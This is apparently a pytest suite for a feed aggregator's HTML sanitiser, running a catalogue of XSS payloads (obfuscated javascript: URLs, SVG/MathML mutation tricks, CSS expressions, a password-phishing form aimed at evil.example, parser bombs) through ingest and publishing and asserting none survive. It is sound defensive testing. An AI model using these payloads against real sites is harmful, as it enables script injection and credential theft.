"""The sanitising catalogue: known XSS payloads, end to end.

Each payload travels the real path: raw feed bytes → :func:`copro_feeds._ingest.ingest`
(feedparser, then nh3) → the published Atom, RSS and JSON Feed (``render_files``). After
every case html5lib, parsing as a browser would, re-reads every HTML fragment we store or
publish (our ``content_html``, Atom ``content``, RSS ``description`` and
``content:encoded``, JSON ``content_html``) and must find nothing live in any of them.
"""

from __future__ import annotations

import json
import re
import time
from collections.abc import Iterator
from dataclasses import dataclass, replace
from datetime import UTC, datetime
from xml.sax.saxutils import escape

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from copro_feeds._ingest import Ingested, SourceFacts, ingest
from copro_feeds._publish import (
    ATOM_FILE,
    JSON_FILE,
    MAIN_FEED,
    RSS_FILE,
    FeedContent,
    render_files,
)
from copro_feeds._text import ELLIPSIS, sanitise_html
from copro_feeds.config import SiteConfig
from copro_feeds.types import Attribution, Entry
from tests.factories import partner_facts

NOW = datetime(2026, 3, 3, 12, 0, tzinfo=UTC)
FEED_URL = "https://partner.example/feed/"
SITE = SiteConfig(
    title="Partners", link="https://copro.example/", feed_url="https://copro.example/atom.xml"
)
FACTS = partner_facts()
ATOM_NS = "http://www.w3.org/2005/Atom"
CONTENT_NS = "http://purl.org/rss/1.0/modules/content/"
STRICT = etree.XMLParser(resolve_entities=False, no_network=True)

LIVE_ELEMENTS = {"script", "iframe", "object", "embed", "style", "base", "form", "svg", "math"}
# Elements that only exist inside SVG or MathML: none may survive, even renamed into HTML.
FOREIGN_ELEMENTS = {
    "animate", "animatemotion", "animatetransform", "set", "use", "foreignobject", "image",
    "feimage", "mglyph", "malignmark", "mtext", "mi", "mo", "mn", "ms", "maction", "annotation-xml",
    "semantics", "g", "path", "circle", "rect", "desc", "symbol", "defs", "text", "tspan",
    "textpath", "handler", "listener", "mstyle", "mrow", "mfrac", "msqrt",
}  # fmt: skip
FORM_ELEMENTS = {"form", "input", "button", "select", "textarea", "option", "keygen", "isindex"}
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "poster", "srcset", "background",
    "cite", "data", "codebase", "dynsrc", "lowsrc", "longdesc", "usemap", "manifest", "ping",
    "profile", "icon", "to", "from", "values", "by",
}  # fmt: skip
SAFE_SCHEMES = {"http", "https", "mailto"}


def dangerous_parts(fragment: str) -> list[str]:
    """What a browser-like parser finds in ``fragment`` that must never be published."""
    document = html5lib.parseFragment(fragment, namespaceHTMLElements=False)
    found: list[str] = []
    for element in document.iter():
        if not isinstance(element.tag, str):  # comments, processing instructions
            found.append(f"node {element.tag!r}")
            continue
        tag = element.tag.lower().rsplit("}", 1)[-1]
        if tag in LIVE_ELEMENTS | FOREIGN_ELEMENTS | FORM_ELEMENTS:
            found.append(f"<{tag}>")
        for raw_name, value in element.attrib.items():
            name = str(raw_name).lower().rsplit("}", 1)[-1]
            if "xlink" in str(raw_name).lower() or name.startswith("on") or name == "style":
                found.append(f"{raw_name}={value!r}")
            if name in URL_ATTRIBUTES and not _only_safe_urls(name, value):
                found.append(f"{raw_name}={value!r}")
    return found


def _only_safe_urls(name: str, value: str) -> bool:
    urls = [part.strip().split()[0] for part in value.split(",") if part.strip()]
    if name != "srcset":
        urls = [value]
    for url in urls:
        cleaned = re.sub(r"[\x00-\x20]", "", url)
        scheme = cleaned.split(":", 1)[0].lower() if ":" in cleaned else "relative"
        if scheme not in SAFE_SCHEMES:
            return False
    return True


@dataclass(frozen=True, slots=True)
class Published:
    """One ingested feed and what we would publish from it."""

    ingested: Ingested
    files: dict[str, bytes]

    @property
    def entries(self) -> tuple[Entry, ...]:
        return self.ingested.entries

    def fragments(self) -> Iterator[tuple[str, str]]:
        """Every HTML fragment stored or published, with where it came from."""
        for entry in self.entries:
            yield "stored content_html", entry.content_html
        atom = etree.fromstring(self.files[ATOM_FILE], STRICT)
        for node in atom.iter(f"{{{ATOM_NS}}}content"):
            assert node.get("type") == "html"
            yield "atom content", node.text or ""
        rss = etree.fromstring(self.files[RSS_FILE], STRICT)
        for node in rss.iter("description", f"{{{CONTENT_NS}}}encoded"):
            if node.getparent() is not None and node.getparent().tag == "item":
                yield f"rss {etree.QName(node).localname}", node.text or ""
        for item in json.loads(self.files[JSON_FILE])["items"]:
            yield "json content_html", item["content_html"]


def publish_ingested(result: Ingested) -> Published:
    """Publish the ingested entries as the combined feed, in every format."""
    feeds = [FeedContent(info=MAIN_FEED, entries=result.entries)]
    sources = [result.entries[0].attribution] if result.entries else [_attribution()]
    return Published(ingested=result, files=render_files(feeds, sources, SITE))


def _attribution() -> Attribution:
    return Attribution(
        source_key="partner", name="Partner", homepage="https://partner.example/", feed_url=FEED_URL
    )


def run_feed(body: bytes, facts: SourceFacts = FACTS) -> Published:
    """Raw feed bytes through ingest and every publisher, checked for live markup."""
    published = publish_ingested(ingest(body, {}, FEED_URL, facts, NOW))
    assert published.entries, "the case must produce at least one entry"
    problems = [
        (where, part, fragment)
        for where, fragment in published.fragments()
        for part in dangerous_parts(fragment)
    ]
    assert problems == []
    return published


def rss_html(payload: str, *, title: str = "Post") -> bytes:
    """An RSS 2.0 feed whose one item has ``payload`` as (entity-escaped) HTML description."""
    return (
        "<rss version='2.0'><channel><title>Partner</title><link>https://partner.example/</link>"
        f"<item><title>{escape(title)}</title><link>https://partner.example/1</link>"
        f"<guid>p1</guid><description>{escape(payload)}</description></item>"
        "</channel></rss>"
    ).encode()


def rss_cdata(payload: str) -> bytes:
    """The same, with the HTML in ``content:encoded`` as CDATA (what WordPress sends)."""
    assert "]]>" not in payload
    return (
        "<rss version='2.0' xmlns:content='http://purl.org/rss/1.0/modules/content/'><channel>"
        "<title>Partner</title><link>https://partner.example/</link><item><title>Post</title>"
        "<link>https://partner.example/1</link><guid>p1</guid>"
        f"<content:encoded><![CDATA[{payload}]]></content:encoded></item></channel></rss>"
    ).encode()


def atom_html(payload: str, *, content_type: str = "html") -> bytes:
    """An Atom feed whose one entry has ``payload`` as ``<content type=...>``."""
    return (
        f"<feed xmlns='{ATOM_NS}'><title>Partner</title><id>urn:partner</id>"
        "<updated>2026-03-01T00:00:00Z</updated><entry><title>Post</title><id>urn:p1</id>"
        "<link href='https://partner.example/1'/><updated>2026-03-01T00:00:00Z</updated>"
        f"<content type='{content_type}'>{escape(payload)}</content></entry></feed>"
    ).encode()


CARRIERS = {"rss description": rss_html, "atom content html": atom_html}


def through_every_carrier(payload: str) -> list[Published]:
    """``payload`` as escaped RSS description and as Atom HTML content."""
    return [run_feed(build(payload)) for build in CARRIERS.values()]


# -- the catalogue ---------------------------------------------------------------------------

COMMENT_PAYLOADS = {
    "comment closed by >": "<!--><script>alert(1)</script>-->",
    "comment closed by --!>": "<!-- --!><img src=x onerror=alert(1)>-->",
    "comment closed by ->": "<!---><img src=x onerror=alert(1)>-->",
}


@pytest.mark.parametrize("payload", COMMENT_PAYLOADS.values(), ids=COMMENT_PAYLOADS.keys())
def test_html_comment_payloads(payload):
    for published in through_every_carrier(payload):
        stored = published.entries[0].content_html
        assert "<!--" not in stored
        assert "alert" not in stored.replace("&gt;", ">").split("-->")[0]


SCHEME_PAYLOADS = {
    "classic": '<a href="javascript:alert(1)">x</a>',
    "tab entity": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "newline entity": '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "NUL": '<a href="java\0script:alert(1)">x</a>',
    "NUL entity": '<a href="java&#0;script:alert(1)">x</a>',
    "decimal entities": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;'
    '&#58;alert(1)">x</a>',
    "hex entities no semicolons": '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74'
    '&#x3A;alert(1)">x</a>',
    "named colon entity": '<a href="javascript&colon;alert(1)">x</a>',
    "upper case": '<a href="JAVASCRIPT:alert(1)">x</a>',
    "mixed case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "leading spaces": '<a href="   javascript:alert(1)">x</a>',
    "leading control": '<a href="\x01javascript:alert(1)">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data text/html": '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
    "data base64 img": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "img src javascript": '<img src="javascript:alert(1)">',
    "unquoted": "<a href=javascript:alert(1)>x</a>",
    "blockquote cite": '<blockquote cite="javascript:alert(1)">x</blockquote>',
    "q cite": '<q cite="vbscript:x">x</q>',
    "ins and del cite": '<ins cite="javascript:a()">i</ins><del cite="data:,x">d</del>',
    "video poster": '<video poster="javascript:alert(1)"><source src="javascript:x"></video>',
    "srcset": '<img srcset="javascript:alert(1) 1x" src="https://ok.example/i.png">',
    "table background": '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "area href": '<map><area href="javascript:alert(1)" shape="rect"></map>',
}


@pytest.mark.parametrize("payload", SCHEME_PAYLOADS.values(), ids=SCHEME_PAYLOADS.keys())
def test_classic_and_obfuscated_schemes(payload):
    for published in through_every_carrier(payload):
        stored = published.entries[0].content_html.lower()
        # Anything left is an http(s) link (feedparser made a "relative" one absolute).
        for url in re.findall(r'(?:href|src|cite)="([^"]*)"', stored):
            assert url.startswith(("https://partner.example/", "https://ok.example/")), url


def test_safe_urls_are_kept():
    published = run_feed(
        rss_html(
            '<blockquote cite="https://ok.example/q">q</blockquote>'
            '<a href="mailto:a@ok.example">m</a><img src="https://ok.example/i.png" alt="chart">'
        )
    )
    stored = published.entries[0].content_html
    assert 'cite="https://ok.example/q"' in stored
    assert 'href="mailto:a@ok.example"' in stored
    assert 'src="https://ok.example/i.png"' in stored
    assert published.entries[0].excerpt == "q m chart"  # alt text as plain words (issue 13)


FOREIGN_PAYLOADS = {
    "svg onload": "<svg onload=alert(1)><circle r=4></circle></svg>",
    "svg set href": '<svg><a><set attributeName="href" to="javascript:alert(1)"/>x</a></svg>',
    "svg animate": '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>',
    "svg xlink a": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "svg use": '<svg><use href="data:image/svg+xml,&lt;svg id=x&gt;" xlink:href="#x"/></svg>',
    "svg foreignObject": "<svg><foreignObject><iframe src=javascript:alert(1)></iframe>"
    "</foreignObject></svg>",
    "svg style": "<svg><style>*{background:url(javascript:alert(1))}</style></svg>",
    "svg script": '<svg><script href="data:,alert(1)"/></svg>',
    "svg image": '<svg><image href="javascript:alert(1)"/></svg>',
    "xlink on html": '<img src="https://ok.example/i.png" xlink:href="javascript:alert(1)">',
    "math href": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "math maction": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">'
    "<mtext>x</mtext></maction></math>",
    "math mglyph style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "math annotation-xml": '<math><annotation-xml encoding="text/html"><img src=x '
    "onerror=alert(1)></annotation-xml></math>",
    "math mtext": "<math><mtext><h1>x</h1><img src=x onerror=alert(1)></mtext></math>",
}


@pytest.mark.parametrize("payload", FOREIGN_PAYLOADS.values(), ids=FOREIGN_PAYLOADS.keys())
def test_svg_and_mathml(payload):
    for published in through_every_carrier(payload):
        stored = published.entries[0].content_html.lower()
        assert "<svg" not in stored and "<math" not in stored
        assert "xlink" not in stored


RAW_TEXT_PAYLOADS = {
    "noscript attribute": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "textarea": "<textarea><img src=x onerror=alert(1)></textarea>",
    "title": "<title><img src=x onerror=alert(1)></title>",
    "xmp": "<xmp><img src=x onerror=alert(1)></xmp>",
    "noembed": "<noembed><img src=x onerror=alert(1)></noembed>",
    "iframe srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "cdata in html": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "cdata in html after text": "a <![CDATA[ ]]><img src=x onerror=alert(1)> b",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "plaintext": "<plaintext><img src=x onerror=alert(1)>",
}


@pytest.mark.parametrize("payload", RAW_TEXT_PAYLOADS.values(), ids=RAW_TEXT_PAYLOADS.keys())
def test_raw_text_and_cdata_tricks(payload):
    for published in through_every_carrier(payload):
        stored = published.entries[0].content_html
        assert not re.search(r"<img[^>]*onerror", stored)  # gone, escaped as text, or tamed


def test_cdata_in_an_xhtml_atom_entry():
    body = (
        f"<feed xmlns='{ATOM_NS}'><title>P</title><id>urn:p</id>"
        "<updated>2026-03-01T00:00:00Z</updated><entry><title>Post</title><id>urn:p1</id>"
        "<updated>2026-03-01T00:00:00Z</updated><content type='xhtml'>"
        "<div xmlns='http://www.w3.org/1999/xhtml'>ok <![CDATA[<img src=x onerror=alert(1)>]]>"
        "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/></div></content>"
        "</entry></feed>"
    ).encode()
    published = run_feed(body)
    assert "<img" not in published.entries[0].content_html
    assert published.entries[0].excerpt.startswith("ok")


CSS_PAYLOADS = {
    "url javascript": '<div style="background:url(javascript:alert(1))">x</div>',
    "expression": '<p style="width: expression(alert(1))">x</p>',
    "overlay": '<a href="https://evil.example/" style="position:fixed;top:0;left:0;'
    'width:100%;height:100%;z-index:9999">Click</a>',
    "style element": "<style>body{background:url(javascript:alert(1))}</style><p>x</p>",
    "style import": "<style>@import 'https://evil.example/x.css';</style><p>x</p>",
    "escaped expression": '<p style="x:\\65 xpression(alert(1))">x</p>',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css"><p>x</p>',
}


@pytest.mark.parametrize("payload", CSS_PAYLOADS.values(), ids=CSS_PAYLOADS.keys())
def test_css_is_dropped_entirely(payload):
    for published in through_every_carrier(payload):
        stored = published.entries[0].content_html.lower()
        assert "style" not in stored
        assert "expression" not in stored and "url(" not in stored
        assert "<link" not in stored


FORM_PAYLOADS = {
    "form action": '<form action="javascript:alert(1)"><input type="submit" value="Go"></form>',
    "button formaction": '<button formaction="javascript:alert(1)">x</button>',
    "input formaction": '<input type="image" src="x" formaction="javascript:alert(1)">',
    "phishing form": '<form action="https://evil.example/steal" method="post">'
    '<input name="password" type="password"><button>Log in</button></form>',
    "select": "<select><option>a</option></select><keygen autofocus onfocus=alert(1)>",
    "isindex": '<isindex type="image" src="x" onerror="alert(1)">',
}


@pytest.mark.parametrize("payload", FORM_PAYLOADS.values(), ids=FORM_PAYLOADS.keys())
def test_forms_and_controls(payload):
    for published in through_every_carrier(payload):
        stored = published.entries[0].content_html.lower()
        for word in ("<form", "<input", "<button", "formaction", "<select", "password"):
            assert word not in stored


def test_target_blank_links_get_noopener():
    payload = '<a href="https://ok.example/" target="_blank" rel="opener">ok</a>'
    for published in through_every_carrier(payload):
        link = html5lib.parseFragment(
            published.entries[0].content_html, namespaceHTMLElements=False
        ).find(".//a")
        assert link is not None
        assert link.get("href") == "https://ok.example/"
        assert "noopener" in (link.get("rel") or "").split()
        assert "opener" not in (link.get("rel") or "").split()


def test_excerpt_cut_mid_tag_or_mid_entity_stays_plain_well_formed_text():
    facts = replace(FACTS, excerpt_words=8)
    filler = "word " * 1634  # the excerpt reader's window ends inside what follows
    for tail in (
        '<a href="https://ok.example/" title="a &amp; b">link</a>',
        "&amp;&lt;&gt;&quot;&eacute;&#x263A;&#9731;",
        "<img alt='&lt;script&gt;' src='https://ok.example/i.png'>",
    ):
        for offset in range(8):
            published = run_feed(
                rss_html("<p>" + "x" * offset + filler + tail * 40 + "</p>"), facts
            )
            excerpt = published.entries[0].excerpt
            assert len(excerpt.split()) == 8
            assert excerpt.endswith(ELLIPSIS)
            assert not re.search(r"[<>]|&\w+;|&#", excerpt), excerpt
            document = etree.fromstring(published.files[ATOM_FILE], STRICT)
            summary = document.find(f".//{{{ATOM_NS}}}summary")
            assert summary is not None and summary.text == excerpt


def test_100k_nested_divs_are_capped_before_sanitising_and_finish_quickly():
    nested = "<div>" * 100_000 + "deep" + "</div>" * 100_000
    assert len(nested.encode()) > FACTS.max_entry_bytes
    started = time.process_time()
    published = run_feed(rss_cdata(nested))
    assert time.process_time() - started < 10
    stored = published.entries[0].content_html
    assert len(stored.encode()) <= FACTS.max_entry_bytes + 64
    assert "deep" not in stored  # the text sat past the cap


def test_text_plain_content_with_script_is_escaped_and_shown_as_text():
    payload = "<script>alert(1)</script> 1 < 2 & <b>bold</b>"
    for body in (
        atom_html(payload, content_type="text"),
        rss_html(payload).replace(b"<description>", b"<description type='text/plain'>"),
    ):
        published = run_feed(body)
        entry = published.entries[0]
        assert "<script" not in entry.content_html
        text = html5lib.parseFragment(entry.content_html, namespaceHTMLElements=False)
        assert "".join(text.itertext()).strip() in {payload, "alert(1) 1 < 2 & bold"}
        if body.startswith(b"<feed"):  # Atom type="text" is plain text for certain
            assert "&lt;script&gt;" in entry.content_html
            assert entry.excerpt.startswith("<script>alert(1)</script>")
            feed = json.loads(published.files[JSON_FILE])
            assert feed["items"][0]["summary"].startswith("<script>")
            assert "&lt;script&gt;" in feed["items"][0]["content_html"]


# -- properties ---------------------------------------------------------------------------

DANGEROUS_TAGS = [
    "script", "style", "svg", "math", "iframe", "object", "embed", "base", "form", "input",
    "button", "textarea", "title", "noscript", "template", "xmp", "plaintext", "noembed",
    "mglyph", "mtext", "foreignObject", "annotation-xml", "set", "animate", "use", "a", "img",
    "p", "div", "table", "select", "option", "link", "meta", "frameset", "!--", "![CDATA[",
]  # fmt: skip
DANGEROUS_ATTRIBUTES = [
    "onerror", "onload", "onclick", "style", "href", "src", "xlink:href", "formaction",
    "action", "srcset", "poster", "background", "cite", "target", "rel", "srcdoc", "to",
    "attributeName", "data", "xmlns", "type",
]  # fmt: skip
DANGEROUS_VALUES = [
    "javascript:alert(1)", "jav&#x09;ascript:x", "java\0script:x", " JAVASCRIPT:x",
    "data:text/html,<script>x</script>", "vbscript:x", "https://ok.example/", "_blank",
    "url(javascript:x)", "expression(x)", "&#106;avascript:x", '"><script>x</script>', "",
]  # fmt: skip

attribute = st.builds(
    lambda name, value, quote: f" {name}={quote}{value}{quote}",
    st.sampled_from(DANGEROUS_ATTRIBUTES),
    st.sampled_from(DANGEROUS_VALUES) | st.text(max_size=8),
    st.sampled_from(['"', "'", ""]),
)
open_tag = st.builds(
    lambda name, attributes, close: f"<{name}{''.join(attributes)}{close}",
    st.sampled_from(DANGEROUS_TAGS),
    st.lists(attribute, max_size=3),
    st.sampled_from([">", "/>", "", " >"]),
)
end_tag = st.sampled_from(DANGEROUS_TAGS).map(lambda name: f"</{name}>")
html_ish = st.lists(
    open_tag
    | end_tag
    | st.text(max_size=10)
    | st.sampled_from(["-->", "--!>", "]]>", "&", "&amp;", "&#0;", "<", ">", "\0", "<!--"]),
    max_size=14,
).map("".join)


@given(st.text())
def test_sanitise_is_idempotent_and_never_raises_on_any_text(text):
    once = sanitise_html(text)
    assert sanitise_html(once) == once
    assert dangerous_parts(once) == []


@settings(max_examples=300)
@given(html_ish)
def test_sanitise_is_idempotent_and_safe_on_generated_markup(fragment):
    once = sanitise_html(fragment)
    assert sanitise_html(once) == once
    assert dangerous_parts(once) == [], once


# -- parser bombs (regressions: each took from seconds to minutes before the fix) ----------

BOMBS = {
    # html5ever's scope checks walk the open-element stack: quadratic in nesting depth.
    "256 KiB of unclosed <ul>": "<ul>" * 65_536,
    "256 KiB of unclosed <div>": "<div>" * 52_428,
    "256 KiB of unclosed <blockquote>": "<blockquote>" * 21_845,
    # Every open formatting element is re-created in each new paragraph.
    "distinct formatting elements then paragraphs": "<p>"
    + "".join(f"<b class=c{n}>" for n in range(2000))
    + "</p>"
    + "<p>x</p>" * 30_000,
    "identical formatting elements then paragraphs": "<p>"
    + "".join(f"<{tag}>" * 3 for tag in ("b", "i", "u", "s", "em", "strong", "code", "tt"))
    + "</p>"
    + "<p>x</p>" * 28_000,
}


@pytest.mark.parametrize("payload", BOMBS.values(), ids=BOMBS.keys())
def test_parser_bombs_finish_quickly_and_stay_small(payload):
    body = rss_cdata(payload[: FACTS.max_entry_bytes])
    started = time.process_time()
    ingest(body, {}, FEED_URL, FACTS, NOW)
    assert time.process_time() - started < 5
    stored = run_feed(body).entries[0].content_html  # html5lib checks, slowly
    assert len(stored) <= 4 * FACTS.max_entry_bytes + 16 * 1024
    assert sanitise_html(stored) == stored


def test_deep_but_ordinary_markup_is_kept():
    fragment = "<div>" * 200 + "<p>deep <b>text</b></p>" + "</div>" * 200
    assert sanitise_html(fragment) == fragment


def test_a_huge_html_title_is_read_quickly():
    body = (
        f"<feed xmlns='{ATOM_NS}'><title>P</title><id>urn:p</id>"
        "<updated>2026-03-01T00:00:00Z</updated><entry><id>urn:1</id>"
        "<updated>2026-03-01T00:00:00Z</updated><title type='html'>"
        + escape("Real title " + "<div>" * 40_000)
        + "</title></entry></feed>"
    ).encode()
    started = time.process_time()
    ingest(body, {}, FEED_URL, FACTS, NOW)
    assert time.process_time() - started < 5
    assert run_feed(body).entries[0].title == "Real title"


# -- found by fuzzing (benchmarks/fuzz.py) -----------------------------------------------------


@pytest.mark.parametrize(
    "fragment", ["&#1;", "a&#x0B;b", "<p title='&#x7f;'>&#128;</p>", "<![CDATA[x]]>\ufeff"]
)
def test_decoded_references_leave_no_controls_and_stay_idempotent(fragment):
    once = sanitise_html(fragment)
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", once), repr(once)
    assert sanitise_html(once) == once
    assert not once.startswith("\ufeff")


def test_a_javascript_channel_link_never_becomes_the_credit_link():
    """Regression: with no configured homepage, the feed's <link> was credited unchecked."""
    body = (
        b"<rss version='2.0'><channel><title>t</title>"
        b"<link>javascript:alert(document.cookie)</link>"
        b"<item><title>x</title><link>https://p.example/x</link></item></channel></rss>"
    )
    ingested = ingest(body, {}, "https://p.example/feed/", partner_facts(homepage=None), NOW)
    assert ingested.feed_link is None
    assert ingested.entries[0].attribution.homepage == "https://p.example/"
